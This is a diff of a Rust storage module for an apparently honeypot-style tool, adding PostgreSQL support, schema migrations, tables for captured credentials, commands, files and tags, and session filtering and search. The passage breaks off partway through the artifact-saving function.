@@ -1,37 +1,66 @@
-//! SQLite-backed storage implementation using SeaORM.
+//! SQL storage implementation using SeaORM, on SQLite or PostgreSQL.
 //!
-//! This backend persists sessions, interactions, and capture artifacts to a
-//! local SQLite database. It honors the `MIEL_STORAGE_PATH` environment variable
-//! to select the database file location, otherwise defaults to `./miel.sqlite3`.
+//! This backend persists sessions, interactions, capture artifacts, credentials, commands and
+//! annotations to a local SQLite database, along with an index of the files extracted from the
+//! sessions.
+//! It honors the `MIEL_STORAGE_PATH` environment variable to select the database file
+//! location, otherwise defaults to `./miel.sqlite3`.
+//!
+//! Several sensors can instead share a PostgreSQL server, see [`DatabaseStorage::connect`].
+//! The schema is created and migrated on connection for both, column types being
+//! adapted to the backend, and sessions are saved with upserts so that concurrent
+//! writers do not conflict.
+//!
+//! Queries are awaited on the caller's runtime, through the connection pool.
 
 use std::env;
+use std::net::IpAddr;
 use std::path::Path;
+use std::time::Duration;
 
+use async_trait::async_trait;
 use chrono::{DateTime, Utc};
 use log::{debug, error, info};
 use sea_orm::entity::prelude::*;
-use sea_orm::sea_query::{Expr, Func};
+use sea_orm::sea_query::{Expr, Func, OnConflict, Query};
 use sea_orm::{
-    ActiveModelTrait, ColumnTrait, Condition, Database, DatabaseConnection, DbBackend, EntityTrait,
-    QueryFilter, QueryOrder, Set, Statement,
+    ActiveModelTrait, ColumnTrait, Condition, ConnectOptions, Database, DatabaseConnection,
+    DbBackend, EntityTrait, Order, QueryFilter, QueryOrder, QuerySelect, Set, Statement,
+    TransactionTrait,
 };
 use uuid::Uuid;
 
+use crate::configuration::types::ArtifactCompression;
 use crate::data_capture::CaptureArtifacts;
+use crate::enrichment::IpEnrichment;
 use crate::error_handling::types::StorageError;
+use crate::honeytokens::Honeytoken;
 use crate::session::Session;
+use crate::storage::compression;
 use crate::storage::db_entities as session;
 use crate::storage::db_entities::artifacts as art;
+use crate::storage::db_entities::commands as cmd;
+use crate::storage::db_entities::credentials as cred;
+use crate::storage::db_entities::files;
+use crate::storage::db_entities::honeytokens as planted;
 use crate::storage::db_entities::interactions as inter;
+use crate::storage::db_entities::notes;
+use crate::storage::db_entities::tags;
+use crate::storage::search;
 use crate::storage::storage_trait::Storage;
-use crate::storage::types::SessionFilter;
+use crate::storage::types::{
+    Combine, Credential, CredentialFilter, ExecutedCommand, ExitHint, SearchField, SearchHit,
+    SessionAnnotations, SessionFilter, SessionSort, SessionTag, TagSource,
+};
 
-/// Storage backend that uses SQLite via SeaORM.
+/// Storage backend that uses SQLite or PostgreSQL via SeaORM.
 ///
-/// Construct with [`DatabaseStorage::new`] to respect `MIEL_STORAGE_PATH` or
-/// [`DatabaseStorage::new_file`] for an explicit database path.
+/// Construct with [`DatabaseStorage::new`] to respect `MIEL_STORAGE_PATH`,
+/// [`DatabaseStorage::new_file`] for an explicit database path, or
+/// [`DatabaseStorage::connect`] for a database server.
 pub struct DatabaseStorage {
     conn: DatabaseConnection,
+    compression: ArtifactCompression,
 }
 
 impl DatabaseStorage {
@@ -83,28 +112,204 @@ impl DatabaseStorage {
         debug!("Connecting to SQLite database: {}", path_ref.display());
         // DSN understood by sea-orm/sqlx driver; will create file if needed
         let dsn = format!("sqlite://{}?mode=rwc", path_ref.to_string_lossy());
+        Self::open(ConnectOptions::new(dsn)).await
+    }
+
+    /// Connect to the database server at `url`, e.g. `postgres://miel@db/miel`.
+    ///
+    /// Up to `max_connections` connections are pooled, so that the sessions of
+    /// several sensors can be written to the same database concurrently.
+    pub async fn connect(url: &str, max_connections: u32) -> Result<Self, StorageError> {
+        let mut options = ConnectOptions::new(url);
+        options
+            .max_connections(max_connections)
+            .min_connections(1)
+            .acquire_timeout(Duration::from_secs(10))
+            .sqlx_logging(false);
+        debug!("Connecting to database server");
+        Self::open(options).await
+    }
+
+    /// Compresses the artifacts saved from now on, see [`compression`]
+    pub fn with_compression(mut self, compression: ArtifactCompression) -> Self {
+        self.compression = compression;
+        self
+    }
+
+    /// Sessions in which a file with this MD5, SHA-1 or SHA-256 was uploaded or
+    /// carved, in the order they were saved
+    pub async fn sessions_with_file(&self, hash: &str) -> Result<Vec<Uuid>, StorageError> {
+        let hash = hash.to_ascii_lowercase();
+        let rows = files::Entity::find()
+            .filter(
+                Condition::any()
+                    .add(files::Column::Sha256.eq(hash.as_str()))
+                    .add(files::Column::Sha1.eq(hash.as_str()))
+                    .add(files::Column::Md5.eq(hash.as_str())),
+            )
+            .order_by_asc(files::Column::Id)
+            .all(&self.conn)
+            .await
+            .map_err(|e| {
+                error!("DB read error in sessions_with_file: {}", e);
+                StorageError::ReadFailed
+            })?;
+        let mut sessions = Vec::new();
+        for row in rows {
+            let id = Uuid::parse_str(&row.session_id).map_err(|_| StorageError::ReadFailed)?;
+            if !sessions.contains(&id) {
+                sessions.push(id);
+            }
+        }
+        Ok(sessions)
+    }
 
-        let conn = Database::connect(dsn).await.map_err(|e| {
+    async fn open(options: ConnectOptions) -> Result<Self, StorageError> {
+        let conn = Database::connect(options).await.map_err(|e| {
             error!("Failed to connect to database: {}", e);
             StorageError::ConnectionFailed
         })?;
+        let backend = conn.get_database_backend();
+
+        if backend == DbBackend::Sqlite {
+            // ensure foreign keys
+            conn.execute(Statement::from_string(
+                backend,
+                "PRAGMA foreign_keys = ON".to_string(),
+            ))
+            .await
+            .map_err(|e| {
+                error!("Failed to enable foreign keys: {}", e);
+                StorageError::WriteFailed
+            })?;
+        }
+
+        // create schema
+        debug!("Creating database schema if not exists");
+        for (table, ddl) in Self::schema(backend) {
+            conn.execute(Statement::from_string(backend, ddl))
+                .await
+                .map_err(|e| {
+                    error!("Failed to create {} table: {}", table, e);
+                    StorageError::WriteFailed
+                })?;
+        }
+
+        // Databases created before sessions were enriched or redirected, artifacts
+        // compressed or files hashed with MD5 and SHA-1 lack these columns
+        for (table, column) in [
+            ("sessions", "country_code TEXT"),
+            ("sessions", "asn {bigint}"),
+            ("sessions", "as_org TEXT"),
+            ("sessions", "abuse_score INTEGER"),
+            ("sessions", "original_dst TEXT"),
+            ("artifacts", "payload {blob}"),
+            ("files", "md5 TEXT"),
+            ("files", "sha1 TEXT"),
+        ] {
+            let column = Self::column_types(backend, column);
+            let sql = match backend {
+                DbBackend::Sqlite => format!("ALTER TABLE {} ADD COLUMN {}", table, column),
+                _ => format!("ALTER TABLE {} ADD COLUMN IF NOT EXISTS {}", table, column),
+            };
+            if let Err(e) = conn.execute(Statement::from_string(backend, sql)).await {
+                if !e.to_string().contains("duplicate column") {
+                    error!("Failed to add {} column {}: {}", table, column, e);
+                    return Err(StorageError::WriteFailed);
+                }
+            }
+        }
 
-        // ensure foreign keys
+        // Sessions are searched by origin, e.g. all the sessions of an AS
+        for column in ["country_code", "asn"] {
+            conn.execute(Statement::from_string(
+                backend,
+                format!(
+                    "CREATE INDEX IF NOT EXISTS sessions_{0} ON sessions({0})",
+                    column
+                ),
+            ))
+            .await
+            .map_err(|e| {
+                error!("Failed to index sessions by {}: {}", column, e);
+                StorageError::WriteFailed
+            })?;
+        }
+        // Sessions are listed by tag
         conn.execute(Statement::from_string(
-            DbBackend::Sqlite,
-            "PRAGMA foreign_keys = ON".to_string(),
+            backend,
+            "CREATE INDEX IF NOT EXISTS tags_tag ON tags(tag)".to_string(),
         ))
         .await
         .map_err(|e| {
-            error!("Failed to enable foreign keys: {}", e);
+            error!("Failed to index tags: {}", e);
             StorageError::WriteFailed
         })?;
-
-        // create schema
-        debug!("Creating database schema if not exists");
+        // Samples are looked up by hash across sessions
         conn.execute(Statement::from_string(
-            DbBackend::Sqlite,
-            r#"
+            backend,
+            "CREATE INDEX IF NOT EXISTS files_sha256 ON files(sha256)".to_string(),
+        ))
+        .await
+        .map_err(|e| {
+            error!("Failed to index files by hash: {}", e);
+            StorageError::WriteFailed
+        })?;
+
+        // Captured text is searched with FTS5 on SQLite, virtual tables having no
+        // foreign keys their rows are deleted along with the sessions
+        let ddl = match backend {
+            DbBackend::Sqlite => "CREATE VIRTUAL TABLE IF NOT EXISTS search_index \
+                 USING fts5(session_id UNINDEXED, field UNINDEXED, content)"
+                .to_string(),
+            _ => Self::column_types(
+                backend,
+                "CREATE TABLE IF NOT EXISTS search_index (
+                    id {serial},
+                    session_id TEXT NOT NULL,
+                    field TEXT NOT NULL,
+                    content TEXT NOT NULL,
+                    FOREIGN KEY(session_id) REFERENCES sessions(id) ON DELETE CASCADE
+                )",
+            ),
+        };
+        conn.execute(Statement::from_string(backend, ddl))
+            .await
+            .map_err(|e| {
+                error!("Failed to create search_index table: {}", e);
+                StorageError::WriteFailed
+            })?;
+
+        debug!("Database storage initialized successfully");
+        Ok(Self {
+            conn,
+            compression: ArtifactCompression::None,
+        })
+    }
+
+    /// Drops the search documents of the deleted sessions
+    async fn prune_search_index(&self) -> Result<(), StorageError> {
+        let backend = self.conn.get_database_backend();
+        self.conn
+            .execute(Statement::from_string(
+                backend,
+                "DELETE FROM search_index WHERE session_id NOT IN (SELECT id FROM sessions)"
+                    .to_string(),
+            ))
+            .await
+            .map_err(|e| {
+                error!("DB write error in prune_search_index: {}", e);
+                StorageError::WriteFailed
+            })?;
+        Ok(())
+    }
+
+    /// Tables of the database along with their `CREATE TABLE` statement for `backend`
+    fn schema(backend: DbBackend) -> Vec<(&'static str, String)> {
+        [
+            (
+                "sessions",
+                r#"
             CREATE TABLE IF NOT EXISTS sessions (
                 id TEXT PRIMARY KEY,
                 service_name TEXT NOT NULL,
@@ -112,55 +317,142 @@ impl DatabaseStorage {
                 start_time TEXT NOT NULL,
                 end_time TEXT,
                 container_id TEXT,
-                bytes_transferred INTEGER NOT NULL,
-                status TEXT NOT NULL
+                bytes_transferred {bigint} NOT NULL,
+                status TEXT NOT NULL,
+                country_code TEXT,
+                asn {bigint},
+                as_org TEXT,
+                abuse_score INTEGER,
+                original_dst TEXT
             );
-        "#
-            .to_string(),
-        ))
-        .await
-        .map_err(|e| {
-            error!("Failed to create sessions table: {}", e);
-            StorageError::WriteFailed
-        })?;
-
-        conn.execute(Statement::from_string(
-            DbBackend::Sqlite,
-            r#"
+        "#,
+            ),
+            (
+                "interactions",
+                r#"
             CREATE TABLE IF NOT EXISTS interactions (
-                id INTEGER PRIMARY KEY AUTOINCREMENT,
+                id {serial},
                 session_id TEXT NOT NULL,
-                data BLOB NOT NULL,
+                data {blob} NOT NULL,
                 FOREIGN KEY(session_id) REFERENCES sessions(id) ON DELETE CASCADE
             );
-        "#
-            .to_string(),
-        ))
-        .await
-        .map_err(|e| {
-            error!("Failed to create interactions table: {}", e);
-            StorageError::WriteFailed
-        })?;
-
-        conn.execute(Statement::from_string(
-            DbBackend::Sqlite,
-            r#"
+        "#,
+            ),
+            (
+                "artifacts",
+                r#"
             CREATE TABLE IF NOT EXISTS artifacts (
                 session_id TEXT PRIMARY KEY,
                 json TEXT NOT NULL,
+                payload {blob},
                 FOREIGN KEY(session_id) REFERENCES sessions(id) ON DELETE CASCADE
             );
-        "#
-            .to_string(),
-        ))
-        .await
-        .map_err(|e| {
-            error!("Failed to create artifacts table: {}", e);
-            StorageError::WriteFailed
-        })?;
+        "#,
+            ),
+            (
+                "credentials",
+                r#"
+            CREATE TABLE IF NOT EXISTS credentials (
+                id {serial},
+                session_id TEXT NOT NULL,
+                timestamp TEXT NOT NULL,
+                service TEXT NOT NULL,
+                client_ip TEXT,
+                username TEXT NOT NULL,
+                password TEXT,
+                accepted {bool},
+                FOREIGN KEY(session_id) REFERENCES sessions(id) ON DELETE CASCADE
+            );
+        "#,
+            ),
+            (
+                "commands",
+                r#"
+            CREATE TABLE IF NOT EXISTS commands (
+                id {serial},
+                session_id TEXT NOT NULL,
+                timestamp TEXT NOT NULL,
+                source TEXT NOT NULL,
+                command TEXT NOT NULL,
+                stdout_lines {bigint} NOT NULL,
+                stderr_lines {bigint} NOT NULL,
+                exit_hint TEXT,
+                FOREIGN KEY(session_id) REFERENCES sessions(id) ON DELETE CASCADE
+            );
+        "#,
+            ),
+            (
+                "files",
+                r#"
+            CREATE TABLE IF NOT EXISTS files (
+                id {serial},
+                session_id TEXT NOT NULL,
+                name TEXT NOT NULL,
+                source TEXT NOT NULL,
+                sha256 TEXT NOT NULL,
+                md5 TEXT,
+                sha1 TEXT,
+                size {bigint} NOT NULL,
+                truncated {bool} NOT NULL,
+                FOREIGN KEY(session_id) REFERENCES sessions(id) ON DELETE CASCADE
+            );
+        "#,
+            ),
+            (
+                "tags",
+                r#"
+            CREATE TABLE IF NOT EXISTS tags (
+                id {serial},
+                session_id TEXT NOT NULL,
+                tag TEXT NOT NULL,
+                source TEXT NOT NULL,
+                added_at TEXT NOT NULL,
+                FOREIGN KEY(session_id) REFERENCES sessions(id) ON DELETE CASCADE
+            );
+        "#,
+            ),
+            (
+                "notes",
+                r#"
+            CREATE TABLE IF NOT EXISTS notes (
+                session_id TEXT PRIMARY KEY,
+                notes TEXT NOT NULL,
+                FOREIGN KEY(session_id) REFERENCES sessions(id) ON DELETE CASCADE
+            );
+        "#,
+            ),
+            (
+                "honeytokens",
+                r#"
+            CREATE TABLE IF NOT EXISTS honeytokens (
+                id TEXT PRIMARY KEY,
+                created_at TEXT NOT NULL,
+                json TEXT NOT NULL
+            );
+        "#,
+            ),
+        ]
+        .into_iter()
+        .map(|(table, ddl)| (table, Self::column_types(backend, ddl)))
+        .collect()
+    }
 
-        debug!("Database storage initialized successfully");
-        Ok(Self { conn })
+    /// Replaces the `{serial}`, `{blob}`, `{bigint}` and `{bool}` placeholders of
+    /// `ddl` with the column types of `backend`
+    fn column_types(backend: DbBackend, ddl: &str) -> String {
+        let (serial, blob, bigint, boolean) = match backend {
+            DbBackend::Sqlite => (
+                "INTEGER PRIMARY KEY AUTOINCREMENT",
+                "BLOB",
+                "INTEGER",
+                "INTEGER",
+            ),
+            _ => ("SERIAL PRIMARY KEY", "BYTEA", "BIGINT", "BOOLEAN"),
+        };
+        ddl.replace("{serial}", serial)
+            .replace("{blob}", blob)
+            .replace("{bigint}", bigint)
+            .replace("{bool}", boolean)
     }
 
     fn session_to_model(s: &Session) -> session::ActiveModel {
@@ -177,8 +469,18 @@ impl DatabaseStorage {
                 crate::session_management::SessionStatus::Active => "Active",
                 crate::session_management::SessionStatus::Completed => "Completed",
                 crate::session_management::SessionStatus::Error => "Error",
+                crate::session_management::SessionStatus::Interrupted => "Interrupted",
             }
             .to_string()),
+            country_code: Set(s.enrichment.as_ref().and_then(|e| e.country_code.clone())),
+            asn: Set(s.enrichment.as_ref().and_then(|e| e.asn).map(i64::from)),
+            as_org: Set(s.enrichment.as_ref().and_then(|e| e.as_org.clone())),
+            abuse_score: Set(s
+                .enrichment
+                .as_ref()
+                .and_then(|e| e.abuse_score)
+                .map(i32::from)),
+            original_dst: Set(s.original_dst.map(|addr| addr.to_string())),
         }
     }
 
@@ -187,6 +489,7 @@ impl DatabaseStorage {
             "Pending" => crate::session_management::SessionStatus::Pending,
             "Active" => crate::session_management::SessionStatus::Active,
             "Completed" => crate::session_management::SessionStatus::Completed,
+            "Interrupted" => crate::session_management::SessionStatus::Interrupted,
             _ => crate::session_management::SessionStatus::Error,
         };
         Ok(Session {
@@ -210,245 +513,899 @@ impl DatabaseStorage {
             container_id: m.container_id,
             bytes_transferred: m.bytes_transferred as u64,
             status,
+            enrichment: Some(IpEnrichment {
+                country_code: m.country_code,
+                asn: m.asn.and_then(|asn| u32::try_from(asn).ok()),
+                as_org: m.as_org,
+                abuse_score: m.abuse_score.and_then(|score| u8::try_from(score).ok()),
+            })
+            .filter(|enrichment| !enrichment.is_empty()),
+            original_dst: m.original_dst.and_then(|addr| addr.parse().ok()),
         })
     }
 }
 
+#[async_trait]
 impl Storage for DatabaseStorage {
-    fn save_session(&self, session_obj: &Session) -> Result<(), StorageError> {
-        let mut am = Self::session_to_model(session_obj);
-        let conn = self.conn.clone();
-        let session_id = session_obj.id.to_string();
-
-        tokio::task::block_in_place(|| {
-            tokio::runtime::Handle::current().block_on(async {
-                match session::Entity::find_by_id(session_id)
-                    .one(&conn)
-                    .await
-                    .map_err(|e| {
-                        error!("DB read error in save_session find_by_id: {}", e);
-                        StorageError::ReadFailed
-                    })? {
-                    Some(existing) => {
-                        am.id = Set(existing.id);
-                        am.update(&conn).await.map_err(|e| {
-                            error!("DB write error in save_session update: {}", e);
-                            StorageError::WriteFailed
-                        })?;
-                        info!("Updated a session");
-                    }
-                    None => {
-                        session::Entity::insert(am).exec(&conn).await.map_err(|e| {
-                            error!("DB write error in save_session insert exec: {}", e);
-                            StorageError::WriteFailed
-                        })?;
-                        info!("Inserted a session");
-                    }
-                }
-                Ok(())
-            })
-        })
+    async fn save_session(&self, session_obj: &Session) -> Result<(), StorageError> {
+        let am = Self::session_to_model(session_obj);
+
+        // A single upsert, so that concurrent writers cannot both insert
+        let on_conflict = OnConflict::column(session::Column::Id)
+            .update_columns([
+                session::Column::ServiceName,
+                session::Column::ClientAddr,
+                session::Column::StartTime,
+                session::Column::EndTime,
+                session::Column::ContainerId,
+                session::Column::BytesTransferred,
+                session::Column::Status,
+                session::Column::CountryCode,
+                session::Column::Asn,
+                session::Column::AsOrg,
+                session::Column::AbuseScore,
+            ])
+            .to_owned();
+        session::Entity::insert(am)
+            .on_conflict(on_conflict)
+            .exec(&self.conn)
+            .await
+            .map_err(|e| {
+                error!("DB write error in save_session upsert: {}", e);
+                StorageError::WriteFailed
+            })?;
+        info!("Saved a session");
+        Ok(())
     }
 
-    fn get_sessions(&self, filter: Option<SessionFilter>) -> Result<Vec<Session>, StorageError> {
-        let conn = self.conn.clone();
+    async fn get_sessions(
+        &self,
+        filter: Option<SessionFilter>,
+    ) -> Result<Vec<Session>, StorageError> {
+        let mut query = session::Entity::find();
+        if filter.is_some() {
+            debug!("Applying session filter");
+        }
+        if let Some(f) = filter {
+            let mut window = Condition::all();
+            if let Some(start) = f.start_date {
+                window = window.add(session::Column::StartTime.gte(start.to_rfc3339()));
+            }
+            if let Some(end) = f.end_date {
+                let coalesce = Func::coalesce([
+                    Expr::col(session::Column::EndTime).into(),
+                    Expr::col(session::Column::StartTime).into(),
+                ]);
+                window = window.add(Expr::expr(coalesce).lte(end.to_rfc3339()));
+            }
 
-        tokio::task::block_in_place(|| {
-            tokio::runtime::Handle::current().block_on(async {
-                let mut query = session::Entity::find();
-                if filter.is_some() {
-                    debug!("Applying session filter");
-                }
-                if let Some(f) = filter {
-                    let mut cond = Condition::all();
-                    if let Some(name) = f.service_name {
-                        cond = cond.add(session::Column::ServiceName.eq(name));
-                    }
-                    if let Some(start) = f.start_date {
-                        cond = cond.add(session::Column::StartTime.gte(start.to_rfc3339()));
-                    }
-                    if let Some(end) = f.end_date {
-                        let coalesce = Func::coalesce([
-                            Expr::col(session::Column::EndTime).into(),
-                            Expr::col(session::Column::StartTime).into(),
-                        ]);
-                        cond = cond.add(Expr::expr(coalesce).lte(end.to_rfc3339()));
-                    }
-                    if let Some(ip) = f.client_addr {
-                        cond = cond.add(session::Column::ClientAddr.like(format!("{}:%", ip)));
+            let mut cond = match f.combine {
+                Combine::All => Condition::all(),
+                Combine::Any => Condition::any(),
+            };
+            if let Some(name) = f.service_name {
+                cond = cond.add(session::Column::ServiceName.eq(name));
+            }
+            if let Some(ip) = f.client_addr {
+                // Stored as socket addresses, IPv6 ones in brackets
+                let ip = match ip.to_canonical() {
+                    IpAddr::V4(v4) => v4.to_string(),
+                    IpAddr::V6(v6) => format!("[{}]", v6),
+                };
+                cond = cond.add(session::Column::ClientAddr.like(format!("{}:%", ip)));
+            }
+            if let Some(st) = f.status {
+                let s = match st {
+                    crate::session_management::SessionStatus::Pending => "Pending",
+                    crate::session_management::SessionStatus::Active => "Active",
+                    crate::session_management::SessionStatus::Completed => "Completed",
+                    crate::session_management::SessionStatus::Error => "Error",
+                    crate::session_management::SessionStatus::Interrupted => "Interrupted",
+                };
+                cond = cond.add(session::Column::Status.eq(s));
+            }
+            if let Some(country) = f.country_code {
+                cond = cond.add(session::Column::CountryCode.eq(country));
+            }
+            if let Some(asn) = f.asn {
+                cond = cond.add(session::Column::Asn.eq(i64::from(asn)));
+            }
+            if let Some(score) = f.min_abuse_score {
+                cond = cond.add(session::Column::AbuseScore.gte(i32::from(score)));
+            }
+            if let Some(port) = f.original_port {
+                cond = cond.add(session::Column::OriginalDst.like(format!("%:{}", port)));
+            }
+            if let Some(tag) = f.tag {
+                cond = cond.add(
+                    session::Column::Id.in_subquery(
+                        Query::select()
+                            .column(tags::Column::SessionId)
+                            .from(tags::Entity)
+                            .and_where(tags::Column::Tag.eq(tag))
+                            .to_owned(),
+                    ),
+                );
+            }
+            if let Some(container_id) = f.container_id {
+                cond = cond.add(session::Column::ContainerId.eq(container_id));
+            }
+            let clamp = |value: u64| value.min(i64::MAX as u64) as i64;
+            if let Some(min) = f.min_bytes {
+                cond = cond.add(session::Column::BytesTransferred.gte(clamp(min)));
+            }
+            if let Some(max) = f.max_bytes {
+                cond = cond.add(session::Column::BytesTransferred.lte(clamp(max)));
+            }
+            if f.min_duration_secs.is_some() || f.max_duration_secs.is_some() {
+                // Whole seconds between the timestamps, NULL while the session runs
+                let duration = match self.conn.get_database_backend() {
+                    DbBackend::Sqlite => {
+                        "(CAST(strftime('%s', end_time) AS INTEGER) \
+                         - CAST(strftime('%s', start_time) AS INTEGER))"
                     }
-                    if let Some(st) = f.status {
-                        let s = match st {
-                            crate::session_management::SessionStatus::Pending => "Pending",
-                            crate::session_management::SessionStatus::Active => "Active",
-                            crate::session_management::SessionStatus::Completed => "Completed",
-                            crate::session_management::SessionStatus::Error => "Error",
-                        };
-                        cond = cond.add(session::Column::Status.eq(s));
+                    _ => {
+                        "(FLOOR(EXTRACT(EPOCH FROM CAST(end_time AS TIMESTAMPTZ))) \
+                         - FLOOR(EXTRACT(EPOCH FROM CAST(start_time AS TIMESTAMPTZ))))"
                     }
-                    query = query.filter(cond);
+                };
+                if let Some(min) = f.min_duration_secs {
+                    cond = cond.add(Expr::expr(Expr::cust(duration)).gte(clamp(min)));
                 }
-                let rows = query.all(&conn).await.map_err(|e| {
-                    error!("DB read error in get_sessions: {}", e);
-                    StorageError::ReadFailed
-                })?;
-                debug!("Fetched {} session rows", rows.len());
-                rows.into_iter().map(Self::from_session_model).collect()
-            })
-        })
+                if let Some(max) = f.max_duration_secs {
+                    cond = cond.add(Expr::expr(Expr::cust(duration)).lte(clamp(max)));
+                }
+            }
+            // An empty alternative would match nothing
+            if !cond.is_empty() {
+                window = window.add(cond);
+            }
+            query = query.filter(window);
+
+            let (column, order) = match f.sort.unwrap_or_default() {
+                SessionSort::StartTime => (session::Column::StartTime, Order::Asc),
+                SessionSort::StartTimeDesc => (session::Column::StartTime, Order::Desc),
+                SessionSort::BytesTransferred => (session::Column::BytesTransferred, Order::Asc),
+                SessionSort::BytesTransferredDesc => {
+                    (session::Column::BytesTransferred, Order::Desc)
+                }
+            };
+            query = query
+                .order_by(column, order.clone())
+                .order_by(session::Column::Id, order);
+            if let Some(offset) = f.offset {
+                // SQLite only accepts an OFFSET after a LIMIT
+                query = query
+                    .offset(offset)
+                    .limit(f.limit.unwrap_or(i64::MAX as u64));
+            } else if let Some(limit) = f.limit {
+                query = query.limit(limit);
+            }
+        }
+        let rows = query.all(&self.conn).await.map_err(|e| {
+            error!("DB read error in get_sessions: {}", e);
+            StorageError::ReadFailed
+        })?;
+        debug!("Fetched {} session rows", rows.len());
+        rows.into_iter().map(Self::from_session_model).collect()
+    }
+
+    async fn get_session(&self, session_id: Uuid) -> Result<Session, StorageError> {
+        let row = session::Entity::find_by_id(session_id.to_string())
+            .one(&self.conn)
+            .await
+            .map_err(|e| {
+                error!("DB read error in get_session: {}", e);
+                StorageError::ReadFailed
+            })?
+            .ok_or(StorageError::ReadFailed)?;
+        Self::from_session_model(row)
     }
 
-    fn save_interaction(&self, session_id: Uuid, data: &[u8]) -> Result<(), StorageError> {
-        let conn = self.conn.clone();
+    async fn save_interaction(&self, session_id: Uuid, data: &[u8]) -> Result<(), StorageError> {
         let data = data.to_vec();
 
-        tokio::task::block_in_place(|| {
-            tokio::runtime::Handle::current().block_on(async {
-                let am = inter::ActiveModel {
-                    session_id: Set(session_id.to_string()),
-                    data: Set(data.clone()),
-                    ..Default::default()
-                };
-                am.insert(&conn).await.map_err(|e| {
-                    error!("DB write error in save_interaction insert: {}", e);
+        let am = inter::ActiveModel {
+            session_id: Set(session_id.to_string()),
+            data: Set(data.clone()),
+            ..Default::default()
+        };
+        am.insert(&self.conn).await.map_err(|e| {
+            error!("DB write error in save_interaction insert: {}", e);
+            StorageError::WriteFailed
+        })?;
+        debug!("Inserted an interaction ({} bytes)", data.len());
+        Ok(())
+    }
+
+    async fn get_session_data(&self, session_id: Uuid) -> Result<Vec<u8>, StorageError> {
+        let mut out = Vec::new();
+        let rows = inter::Entity::find()
+            .filter(inter::Column::SessionId.eq(session_id.to_string()))
+            .order_by_asc(inter::Column::Id)
+            .all(&self.conn)
+            .await
+            .map_err(|e| {
+                error!("DB read error in get_session_data: {}", e);
+                StorageError::ReadFailed
+            })?;
+        let mut chunks = 0usize;
+        for r in rows {
+            out.extend_from_slice(&r.data);
+            chunks += 1;
+        }
+        debug!(
+            "Concatenated {} interaction chunk(s), total {} bytes",
+            chunks,
+            out.len()
+        );
+        Ok(out)
+    }
+
+    async fn cleanup_old_sessions(&self, older_than: DateTime<Utc>) -> Result<usize, StorageError> {
+        let cutoff = older_than.to_rfc3339();
+        let coalesce = Func::coalesce([
+            Expr::col(session::Column::EndTime).into(),
+            Expr::col(session::Column::StartTime).into(),
+        ]);
+        let cond = Expr::expr(coalesce).lt(cutoff.clone());
+        let res = session::Entity::delete_many()
+            .filter(cond)
+            .exec(&self.conn)
+            .await
+            .map_err(|e| {
+                error!("DB write error in cleanup_old_sessions delete_many: {}", e);
+                StorageError::WriteFailed
+            })?;
+        self.prune_search_index().await?;
+        info!(
+            "Deleted {} session(s) older than {}",
+            res.rows_affected, cutoff
+        );
+        Ok(res.rows_affected as usize)
+    }
+
+    async fn delete_sessions(&self, session_ids: &[Uuid]) -> Result<usize, StorageError> {
+        let ids: Vec<String> = session_ids.iter().map(Uuid::to_string).collect();
+
+        let res = session::Entity::delete_many()
+            .filter(session::Column::Id.is_in(ids))
+            .exec(&self.conn)
+            .await
+            .map_err(|e| {
+                error!("DB write error in delete_sessions: {}", e);
+                StorageError::WriteFailed
+            })?;
+        self.prune_search_index().await?;
+        info!("Deleted {} session(s)", res.rows_affected);
+        Ok(res.rows_affected as usize)
+    }
+
+    async fn storage_size(&self) -> Result<u64, StorageError> {
+        let backend = self.conn.get_database_backend();
+        let sql = match backend {
+            // Pages freed by deletions are reused before the file grows, so
+            // they do not count as used
+            DbBackend::Sqlite => {
+                "SELECT (page_count - freelist_count) * page_size AS size \
+                 FROM pragma_page_count(), pragma_freelist_count(), pragma_page_size()"
+            }
+            _ => "SELECT pg_database_size(current_database()) AS size",
+        };
+        let row = self
+            .conn
+            .query_one(Statement::from_string(backend, sql.to_string()))
+            .await
+            .map_err(|e| {
+                error!("DB read error in storage_size: {}", e);
+                StorageError::ReadFailed
+            })?
+            .ok_or(StorageError::ReadFailed)?;
+        let size: i64 = row.try_get("", "size").map_err(|e| {
+            error!("DB read error in storage_size: {}", e);
+            StorageError::ReadFailed
+        })?;
+        Ok(size.max(0) as u64)
+    }
+
+    async fn save_capture_artifacts(
+        &self,
+        artifacts: &CaptureArtifacts,
+    ) -> Result<(), StorageError> {
+        let json = serde_json::to_string(artifacts).map_err(|_| StorageError::WriteFailed)?;
+        // Compressed JSON goes to the binary column, leaving the text one empty
+        let (json, payload) = match self.compression {
+            ArtifactCompression::None => (json, None),
+            compression => (
+                String::new(),
+                Some(compression::encode(compression, json.as_bytes())?),
+            ),
+        };
+        let session_id = artifacts.session_id.to_string();
+        let am = art::ActiveModel {
+            session_id: Set(session_id.clone()),
+            json: Set(json),
+            payload: Set(payload),
+        };
+        // Artifacts saved before files were hashed with MD5 and SHA-1 lack them
+        let hash = |hash: &String| (!hash.is_empty()).then(|| hash.clone());
+        let uploads = artifacts
+            .uploaded_files
+            .iter()
+            .map(|file| files::ActiveModel {
+                session_id: Set(session_id.clone()),
+                name: Set(file.name.clone()),
+                source: Set("upload".to_string()),
+                sha256: Set(file.sha256.clone()),
+                md5: Set(hash(&file.md5)),
+                sha1: Set(hash(&file.sha1)),
+                size: Set(file.content.len() as i64),
+                truncated: Set(file.truncated),
+                ..Default::default()
+            });
+        let carved = artifacts
+            .carved_files
+            .iter()
+            .map(|file| files::ActiveModel {
+                session_id: Set(session_id.clone()),
+                name: Set(file.name.clone()),
+                source: Set(file.source.as_str().to_string()),
+                sha256: Set(file.sha256.clone()),
+                md5: Set(hash(&file.md5)),
+                sha1: Set(hash(&file.sha1)),
+                size: Set(file.content.len() as i64),
+                truncated: Set(file.truncated),
+                ..Default::default()
+            });
+        let file_models: Vec<files::ActiveModel> = uploads.chain(carved).collect();
+        let documents = search::documents(artifacts);
+        let backend = self.conn.get_database_backend();
+
+        let txn = self.conn.begin().await.map_err(|e| {
+            error!("DB write error in save_capture_artifacts begin: {}", e);
+            StorageError::WriteFailed
+        })?;
+        art::Entity::insert(am)
+            .on_conflict(
+                OnConflict::column(art::Column::SessionId)
+                    .update_columns([art::Column::Json, art::Column::Payload])
+                    .to_owned(),
+            )
+            .exec(&txn)
+            .await
+            .map_err(|e| {
+                error!("DB write error in save_capture_artifacts upsert: {}", e);
+                StorageError::WriteFailed
+            })?;
+        // Artifacts are saved again as the session goes, the index follows them
+        files::Entity::delete_many()
+            .filter(files::Column::SessionId.eq(session_id.clone()))
+            .exec(&txn)
+            .await
+            .map_err(|e| {
+                error!(
